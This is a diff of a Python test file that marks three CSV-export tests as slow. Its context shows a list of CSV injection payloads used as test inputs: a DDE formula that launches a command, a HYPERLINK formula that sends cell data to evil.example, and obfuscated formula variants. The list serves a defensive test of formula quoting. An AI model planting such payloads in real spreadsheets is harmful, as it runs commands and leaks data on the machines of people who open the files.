@@ -88,6 +88,7 @@ def _read(path: Path, fmt: str) -> pd.DataFrame:
     return pd.read_parquet(path)
 
 
+@pytest.mark.slow
 def test_every_kind_in_every_format(database_url: str, tmp_path: Path) -> None:
     _study(database_url, tmp_path)
     expected = {"responses": 13, "tasks": 3, "expert-scores": 1, "grader-scores": 1,
@@ -172,6 +173,7 @@ FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1,"Open")
             "  =1+1", " \t@SUM(A1:A9)", "\n-2+3", "\u200b=1+1", "\u00a0+1", "\u3000\uff1d1+1"]
 
 
+@pytest.mark.slow
 def test_csv_cells_that_would_run_as_formulas_are_quoted(sqlite_url: str, tmp_path: Path) -> None:
     """OWASP CSV injection rule for text cells; numbers (even negative) stay numbers;
     JSONL and Parquet keep the text as it is."""
@@ -229,6 +231,7 @@ def test_a_model_named_like_a_formula_is_quoted_in_every_csv(sqlite_url: str,
         ["model", "n"], ["'  =1+1", "3"], ["'\u200b-2+3", "-1"]]
 
 
+@pytest.mark.slow
 def test_every_csv_writer_uses_the_one_neutraliser() -> None:
     """Each project module that writes CSV (`csv.writer`, `DataFrame.to_csv`) goes through
     `db.export.neutralise`, so one rule decides which cells are quoted."""
